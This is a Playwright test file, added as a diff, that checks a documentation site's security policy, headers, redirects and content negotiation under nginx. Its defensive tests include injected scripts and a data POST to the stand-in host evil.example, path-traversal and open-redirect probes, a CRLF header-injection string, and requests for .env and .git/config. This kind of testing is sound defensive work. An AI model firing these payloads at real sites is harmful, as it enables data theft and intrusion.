@@ -1,0 +1,464 @@
+/**
+ * The site behind a real nginx that runs the generated file, and behind `npm run serve`: what each kind of address answers,
+ * what is refused, and the site's features in a browser that enforces the policy. routes.spec.ts does so with every page. A
+ * violation is an error in the console, which fails the test (fixtures.ts).
+ */
+import {cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
+import {get, type IncomingHttpHeaders} from 'node:http';
+import {tmpdir} from 'node:os';
+import path from 'node:path';
+import {gunzipSync} from 'node:zlib';
+import type {Route} from '@playwright/test';
+import {startNginx} from '../../scripts/nginx';
+import {IMMUTABLE, REVALIDATE} from '../../src/config/headers';
+import {redirects} from '../../src/config/redirects';
+import {observatory} from '../support/observatory';
+import {expect, foreignRequests, NGINX_FILE, open, ROOT, test, type Servers} from './servers';
+
+type Answer = {readonly status: number; readonly headers: IncomingHttpHeaders; readonly body: string};
+
+/** Sends the target as it is: a browser, fetch and Playwright would tidy it up first. */
+function ask(server: string, target: string, headers: Record<string, string> = {}): Promise<Answer> {
+  const {hostname, port} = new URL(server);
+  return new Promise((resolve, reject) => {
+    get({hostname, port, path: target, headers}, (response) => {
+      const chunks: Buffer[] = [];
+      response.on('data', (chunk: Buffer) => chunks.push(chunk));
+      response.on('end', () => {
+        const bytes = Buffer.concat(chunks);
+        const body = (response.headers['content-encoding'] === 'gzip' ? gunzipSync(bytes) : bytes).toString();
+        resolve({status: response.statusCode ?? 0, headers: response.headers, body});
+      });
+    }).on('error', reject);
+  });
+}
+
+test.describe('a page in the browser', () => {
+  test('draws its diagrams in both modes, with their own rules', async ({page, servers}) => {
+    const diagram = page.locator('.docusaurus-mermaid-container svg').first();
+    const fill = () =>
+      diagram.evaluate((svg) => getComputedStyle(svg.querySelector('.node rect, .actor, .state rect') ?? svg).fill);
+    await page.clock.install();
+    await open(page, `${servers.plain}/docs/serenity-aihub/agents`);
+    await diagram.scrollIntoViewIfNeeded();
+    await expect(diagram).toBeVisible();
+    // Without rules of its own a shape is black.
+    expect(await fill()).not.toBe('rgb(0, 0, 0)');
+    const light = await fill();
+    await page.getByRole('button', {name: /Switch between dark and light mode/}).click();
+    await expect.poll(fill).not.toBe(light);
+    expect(await page.locator('svg style').count()).toBe(0);
+    // The rules of a diagram go some seconds after it.
+    const sheets = () => page.evaluate(() => document.adoptedStyleSheets.length);
+    const before = await sheets();
+    await page.getByRole('navigation', {name: 'Main'}).getByRole('link', {name: 'Blog', exact: true}).click();
+    await expect(page).toHaveURL(/\/blog$/);
+    for (let round = 0; round < 5; round += 1) {
+      await page.goBack();
+      await expect(diagram).toBeVisible();
+      await page.goForward();
+      await expect(diagram).toHaveCount(0);
+      await page.clock.fastForward(15_000);
+    }
+    expect(await sheets()).toBe(before);
+  });
+
+  test('finds in the modal, on the search page and in the panel, without any other host', async ({page, servers}) => {
+    const foreign = foreignRequests(page, servers.plain);
+    await open(page, `${servers.plain}/docs/getting-started/overview`);
+    await page.keyboard.press('Control+k');
+    const dialog = page.getByRole('dialog', {name: 'Search'});
+    await dialog.getByRole('combobox').fill('webhook agent');
+    await expect(dialog.getByRole('option').first()).toBeVisible();
+    await page.keyboard.press('Escape');
+    await page.getByRole('button', {name: 'Ask the docs'}).click();
+    await page.getByRole('textbox', {name: 'Your question'}).fill('How do I call an agent?');
+    await page.getByRole('button', {name: 'Ask', exact: true}).click();
+    await expect(page.locator('blockquote').first()).toBeVisible();
+    await open(page, `${servers.plain}/search?q=agent`);
+    await expect(page.getByRole('main').locator('h2 a').first()).toBeVisible();
+    await open(page, `${servers.plain}/release-notes`);
+    await page.getByRole('combobox', {name: 'Product area'}).selectOption({label: 'SDKs'});
+    expect(foreign).toEqual([]);
+  });
+
+  test('may call the API of the reference, and no other host', async ({page, servers}) => {
+    const spec = JSON.parse(readFileSync(path.join(ROOT, 'api/openapi.json'), 'utf8')) as {servers: {url: string}[]};
+    const api = spec.servers[0]?.url ?? '';
+    await page.route(`${api}/**`, (route) =>
+      route.fulfill({headers: {'access-control-allow-origin': '*'}, json: {fine: true}}),
+    );
+    await open(page, `${servers.plain}/docs/api/aihub/execute-agent-with-code`);
+    expect(await page.evaluate(async (url) => (await fetch(`${url}/probe`)).json() as Promise<unknown>, api)).toEqual({
+      fine: true,
+    });
+  });
+
+  test.describe('that was tampered with', () => {
+    test.use({expectedErrors: [[/Policy violated|Content Security Policy/], {scope: 'test'}]});
+
+    test('runs no inserted script, handler or text, takes no inserted style, and reaches no other host', async ({
+      page,
+      servers,
+    }) => {
+      // A request that the policy stops does not get as far as here.
+      const reached: string[] = [];
+      await page.route('https://evil.example/**', (route) => {
+        reached.push(route.request().url());
+        return route.abort();
+      });
+      await open(page, servers.plain);
+      const outcome = await page.evaluate(async () => {
+        const violations: string[] = [];
+        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+        const script = document.createElement('script');
+        script.textContent = 'window.scriptRan = true';
+        const external = document.createElement('script');
+        external.src = 'https://evil.example/x.js';
+        const style = document.createElement('style');
+        style.textContent = 'body {color: rgb(1, 2, 3)}';
+        const frame = document.createElement('iframe');
+        frame.src = 'https://evil.example/';
+        const base = document.createElement('base');
+        base.href = 'https://evil.example/';
+        const image = document.createElement('div');
+        image.innerHTML = '<img src="/favicon.ico" onload="window.handlerRan = true">';
+        const loaded = new Promise((resolve) => image.querySelector('img')?.addEventListener('load', resolve));
+        document.body.append(script, external, style, frame, image);
+        document.head.append(base);
+        await loaded;
+        const failed = await fetch('https://evil.example/collect', {method: 'POST', body: 'x'}).then(
+          () => 'sent',
+          () => 'blocked',
+        );
+        let evaluated = 'ran';
+        try {
+          new Function('return 1')();
+        } catch {
+          evaluated = 'blocked';
+        }
+        // Violations are reported in tasks of their own; the last one of all is provoked on purpose.
+        await new Promise<void>((resolve) => {
+          document.addEventListener('securitypolicyviolation', (event) => {
+            if (event.effectiveDirective === 'form-action') {
+              resolve();
+            }
+          });
+          const form = document.createElement('form');
+          form.action = 'https://evil.example/';
+          form.method = 'post';
+          document.body.append(form);
+          form.submit();
+        });
+        return {
+          failed,
+          evaluated,
+          ran: 'scriptRan' in window || 'handlerRan' in window,
+          color: getComputedStyle(document.body).color,
+          base: document.baseURI,
+          violations: [...new Set(violations)].sort(),
+        };
+      });
+      expect(outcome).toMatchObject({failed: 'blocked', evaluated: 'blocked', ran: false});
+      expect(outcome.color).not.toBe('rgb(1, 2, 3)');
+      expect(outcome.base).toBe(`${servers.plain}/`);
+      expect(outcome.violations).toEqual([
+        'base-uri',
+        'connect-src',
+        'form-action',
+        'frame-src',
+        'script-src',
+        'script-src-attr',
+        'script-src-elem',
+        'style-src-elem',
+      ]);
+      expect(reached).toEqual([]);
+    });
+  });
+});
+
+test.describe('with every external part configured', () => {
+  const javascript = (body: string) => (route: Route) =>
+    route.fulfill({contentType: 'text/javascript', headers: {'access-control-allow-origin': '*'}, body});
+
+  test('search, widget and analytics work within the policy', async ({page, servers}) => {
+    const asked = new Set<string>();
+    const answer = (pattern: string | RegExp, handler: (route: Route) => Promise<void>) =>
+      page.route(pattern, (route) => {
+        asked.add(new URL(route.request().url()).host);
+        return handler(route);
+      });
+    await answer(/^https:\/\/testappid1[^/]*\.(?:algolia|algolianet)\.(?:net|com)\//, (route) =>
+      route.fulfill({headers: {'access-control-allow-origin': '*'}, json: {results: [{hits: [], nbHits: 0}]}}),
+    );
+    // Both scripts do what the real ones do with the network.
+    await answer(
+      'https://www.googletagmanager.com/**',
+      javascript(`
+        navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2');
+        new Image().src = 'https://www.google-analytics.com/g/collect?v=2';
+        window.tagScriptRan = true;
+      `),
+    );
+    await answer(/^https:\/\/[^/]*\.google-analytics\.com\//, (route) => route.fulfill({status: 204}));
+    await answer('https://hub.serenitystar.ai/resources/chat.css', (route) =>
+      route.fulfill({contentType: 'text/css', body: '.widget {color: teal}'}),
+    );
+    await answer('https://hub.serenitystar.ai/resources/logo.svg', (route) =>
+      route.fulfill({contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>'}),
+    );
+    await answer(
+      'https://hub.serenitystar.ai/resources/chat.js',
+      javascript(`
+        window.AIHubChat = class {
+          constructor(id, options) {
+            this.id = id;
+            this.options = options;
+          }
+          async init() {
+            await fetch(this.options.baseURL + '/v2/agent');
+            const element = document.getElementById(this.id);
+            element.className = 'widget';
+            element.textContent = 'The chat of the provider';
+            const logo = new Image();
+            logo.src = 'https://hub.serenitystar.ai/resources/logo.svg';
+            element.append(logo);
+          }
+        };
+      `),
+    );
+    await answer('https://api.serenitystar.ai/**', (route) =>
+      route.fulfill({headers: {'access-control-allow-origin': '*'}, json: {}}),
+    );
+
+    await open(page, `${servers.hosted}/docs/getting-started/overview`);
+    await expect(page.getByText('The chat of the provider')).toHaveCSS('color', 'rgb(0, 128, 128)');
+    await expect.poll(() => page.evaluate(() => 'tagScriptRan' in window)).toBe(true);
+    await page.keyboard.press('Control+k');
+    await page.getByRole('dialog', {name: 'Search'}).getByRole('combobox').fill('activity');
+    await expect(page.getByRole('dialog', {name: 'Search'})).toContainText('No results for');
+    await open(page, `${servers.hosted}/search?q=activity`);
+    await expect(page.getByRole('main')).toContainText('No results for');
+    await expect
+      .poll(() => [...asked].sort())
+      .toEqual([
+        'api.serenitystar.ai',
+        'hub.serenitystar.ai',
+        'region1.google-analytics.com',
+        'testappid1-dsn.algolia.net',
+        'www.google-analytics.com',
+        'www.googletagmanager.com',
+      ]);
+  });
+});
+
+const SECURITY_HEADERS = {
+  'strict-transport-security': 'max-age=63072000; includeSubDomains',
+  'x-content-type-options': 'nosniff',
+  'referrer-policy': 'strict-origin-when-cross-origin',
+  'cross-origin-opener-policy': 'same-origin',
+  'cross-origin-resource-policy': 'same-origin',
+} as const;
+
+/** Addresses whose names the build makes up are taken from what the build wrote. */
+function firstMatch(file: string, pattern: RegExp): string {
+  const [found] = pattern.exec(readFileSync(path.join(ROOT, 'build', file), 'utf8')) ?? [];
+  if (!found) {
+    throw new Error(`build/${file} holds nothing like ${pattern}.`);
+  }
+  return found;
+}
+
+const HTML = /^text\/html; ?charset=utf-8$/;
+
+const KINDS: ReadonlyArray<
+  readonly [kind: string, target: string, status: number, type: RegExp | string, cache: string]
+> = [
+  ['home page', '/', 200, HTML, REVALIDATE],
+  ['page', '/docs/billing', 200, HTML, REVALIDATE],
+  ['page with a query', '/search?q=a%2fb', 200, HTML, REVALIDATE],
+  ['unlisted page', '/docs/responsible-use-of-ai', 200, HTML, REVALIDATE],
+  ['missing page', '/docs/no-such-page', 404, HTML, REVALIDATE],
+  ['error page by its own name', '/404.html', 404, HTML, REVALIDATE],
+  ['script', firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/), 200, /^text\/javascript/, IMMUTABLE],
+  ['stylesheet', firstMatch('index.html', /\/assets\/css\/styles\.[0-9a-f]+\.css/), 200, /^text\/css/, IMMUTABLE],
+  ['font', firstMatch('index.html', /\/fonts\/[\w.-]+\.woff2/), 200, 'font/woff2', IMMUTABLE],
+  ['missing asset', '/assets/js/main.00000000.js', 404, HTML, REVALIDATE],
+  ['image', '/img/social-card.png', 200, 'image/png', REVALIDATE],
+  ['drawing', '/img/favicon.svg', 200, 'image/svg+xml', REVALIDATE],
+  ['search loader', '/pagefind/pagefind.js', 200, /^text\/javascript/, REVALIDATE],
+  ['search entry', '/pagefind/pagefind-entry.json', 200, /^application\/json/, REVALIDATE],
+  ['sitemap', '/sitemap.xml', 200, /^application\/xml/, REVALIDATE],
+  ['feed', '/blog/rss.xml', 200, /^application\/xml/, REVALIDATE],
+  ['API description', '/api/openapi.json', 200, /^application\/json/, REVALIDATE],
+  ['API description, YAML', '/api/openapi.yaml', 200, /^application\/yaml/, REVALIDATE],
+];
+
+const SERVERS = ['nginx', 'npm run serve'] as const;
+
+for (const name of SERVERS) {
+  test.describe(name, () => {
+    const address = (servers: Servers, baseURL: string | undefined) =>
+      name === 'nginx' ? servers.plain : (baseURL ?? '');
+
+    for (const [kind, target, status, type, cache] of KINDS) {
+      test(`${kind}: ${status}, type, cache, security headers`, async ({servers, baseURL}) => {
+        const answer = await ask(address(servers, baseURL), target, {'Accept-Encoding': 'gzip'});
+        expect(answer.status).toBe(status);
+        expect(answer.headers['content-type']).toMatch(type);
+        expect(answer.headers['cache-control']).toBe(cache);
+        expect(answer.headers).toMatchObject(SECURITY_HEADERS);
+        expect(answer.headers['permissions-policy']).toContain('geolocation=()');
+        const policy = answer.headers['content-security-policy'];
+        expect(policy).toContain("default-src 'none'");
+        expect(policy).toContain("frame-ancestors 'none'");
+        if (status === 200) {
+          expect(answer.headers.vary ?? '').toMatch(cache === IMMUTABLE ? /^(?:Accept-Encoding)?$/ : /\bAccept\b(?!-)/);
+        } else {
+          expect(answer.body).toContain('Page Not Found');
+        }
+      });
+    }
+
+    test('compresses text', async ({servers, baseURL}) => {
+      const page = await ask(address(servers, baseURL), '/docs/billing', {'Accept-Encoding': 'gzip'});
+      expect(page.headers['content-encoding']).toBe('gzip');
+    });
+
+    test('an unchanged page is a 304', async ({servers, baseURL}) => {
+      const server = address(servers, baseURL);
+      const {headers} = await ask(server, '/docs/billing');
+      const again = await ask(server, '/docs/billing', {'If-None-Match': headers.etag ?? ''});
+      expect(again.status).toBe(304);
+    });
+
+    test('redirects, and a slash at the end, are a 301 to a path of the site', async ({servers, baseURL}) => {
+      const moved = [
+        ...redirects.flatMap(({from, to}) => [
+          {from, to},
+          {from: `${from}/`, to},
+        ]),
+        {from: '/docs/billing/', to: '/docs/billing'},
+        {from: '/blog/?from=feed', to: '/blog?from=feed'},
+        {from: '/terms?from=mail', to: '/terms/terms-of-use?from=mail'},
+      ];
+      for (const {from, to} of moved) {
+        const {status, headers} = await ask(address(servers, baseURL), from, {Host: 'evil.example'});
+        expect([status, headers.location], from).toEqual([301, to]);
+        expect(headers, from).toMatchObject(SECURITY_HEADERS);
+      }
+    });
+
+    test('climbing, disguised and doubled slashes are refused, and no redirect leaves the site', async ({
+      servers,
+      baseURL,
+    }) => {
+      const probes = [
+        '/../package.json',
+        '/docs/../../package.json',
+        '/..',
+        '/docs/..',
+        '/%2e%2e/package.json',
+        '/docs/.%2e/.%2e/package.json',
+        '/..%2f..%2fpackage.json',
+        '/..%2F..%2Fpackage.json',
+        '/..%5c..%5cpackage.json',
+        '/..\\..\\package.json',
+        '/docs%2fbilling',
+        '/assets/..%2f..%2fpackage.json',
+        '/docs/%00',
+        '/docs/billing%00.html',
+        '/docs%0d%0aSet-Cookie:%20a=b/',
+        '//evil.example',
+        '//evil.example/',
+        '///evil.example/',
+        '/\\evil.example/',
+        '/%5cevil.example/',
+        '/%2fevil.example/',
+        '/%2f%2fevil.example/',
+        '//evil.example/..;/',
+        '/docs//',
+      ];
+      for (const probe of probes) {
+        const {status, headers, body} = await ask(address(servers, baseURL), probe);
+        expect([400, 404], probe).toContain(status);
+        expect(headers.location, probe).toBeUndefined();
+        expect(headers['set-cookie'], probe).toBeUndefined();
+        expect(body, probe).not.toContain('"dependencies"');
+      }
+    });
+
+    test('no source, source map, dot file or host file is served', async ({servers, baseURL}) => {
+      const script = firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/);
+      const hidden = [
+        '/_headers',
+        '/_redirects',
+        '/staticwebapp.config.json',
+        '/nginx.conf',
+        '/deploy/nginx.conf',
+        '/.env',
+        '/.git/config',
+        '/.gitignore',
+        '/docs/.DS_Store',
+        '/package.json',
+        '/docusaurus.config.ts',
+        '/src/config/env.ts',
+        '/docs/getting-started/overview.mdx',
+        '/blog/authors.yml',
+        `${script}.map`,
+      ];
+      for (const target of hidden) {
+        expect((await ask(address(servers, baseURL), target)).status, target).toBe(404);
+      }
+    });
+
+    test('scores A+ by the rules of the HTTP Observatory', async ({servers, baseURL}) => {
+      const {headers, body} = await ask(address(servers, baseURL), '/');
+      const flat = Object.fromEntries(Object.entries(headers).map(([header, value]) => [header, String(value)]));
+      const {grade, score, results} = observatory(flat, body, 'https://docs.example.com');
+      expect(grade, JSON.stringify(results, null, 2)).toBe('A+');
+      expect(score).toBe(130);
+      // The grade depends on what is sent.
+      expect(observatory({...flat, 'content-security-policy': undefined}, body, 'https://docs.example.com').grade).toBe(
+        'C',
+      );
+    });
+
+    test('the headers of a page stay below 4 KB', async ({servers, baseURL}) => {
+      const {headers} = await ask(address(servers, baseURL), '/');
+      expect(JSON.stringify(headers).length).toBeLessThan(4096);
+    });
+  });
+}
+
+test('a page answers in Markdown when that is asked for and there is a twin, and in HTML otherwise', async () => {
+  const root = mkdtempSync(path.join(tmpdir(), 'docs-twins-'));
+  mkdirSync(path.join(root, 'docs'));
+  for (const page of ['404', 'index', 'docs/with', 'docs/without']) {
+    writeFileSync(path.join(root, `${page}.html`), `<title>${page}</title>`);
+  }
+  writeFileSync(path.join(root, 'index.md'), '# Home');
+  writeFileSync(path.join(root, 'docs/with.md'), '# With');
+  cpSync(path.join(ROOT, 'static/favicon.ico'), path.join(root, 'favicon.ico'));
+  const nginx = await startNginx({config: NGINX_FILE, root});
+  try {
+    const type = async (target: string, accept?: string) =>
+      (await ask(nginx.url, target, accept === undefined ? {} : {Accept: accept})).headers['content-type'];
+    const markdown = 'text/markdown; charset=utf-8';
+    const html = 'text/html; charset=utf-8';
+    expect(await type('/docs/with', 'text/markdown')).toBe(markdown);
+    expect(await type('/docs/with', 'text/markdown, text/html;q=0.9, */*;q=0.1')).toBe(markdown);
+    expect(await type('/', 'TEXT/MARKDOWN')).toBe(markdown);
+    expect(await type('/docs/with.md')).toBe(markdown);
+    expect(await type('/docs/with')).toBe(html);
+    expect(await type('/docs/with', 'text/html,application/xhtml+xml,*/*;q=0.8')).toBe(html);
+    expect(await type('/docs/with', 'text/html, text/markdown;q=0.5')).toBe(html);
+    expect(await type('/docs/with', 'text/markdown;q=0, */*')).toBe(html);
+    expect(await type('/docs/without', 'text/markdown')).toBe(html);
+    expect(await type('/favicon.ico', 'text/markdown')).toBe('image/x-icon');
+    expect((await ask(nginx.url, '/docs/none', {Accept: 'text/markdown'})).status).toBe(404);
+  } finally {
+    await nginx.stop();
+    rmSync(root, {recursive: true, force: true});
+  }
+});
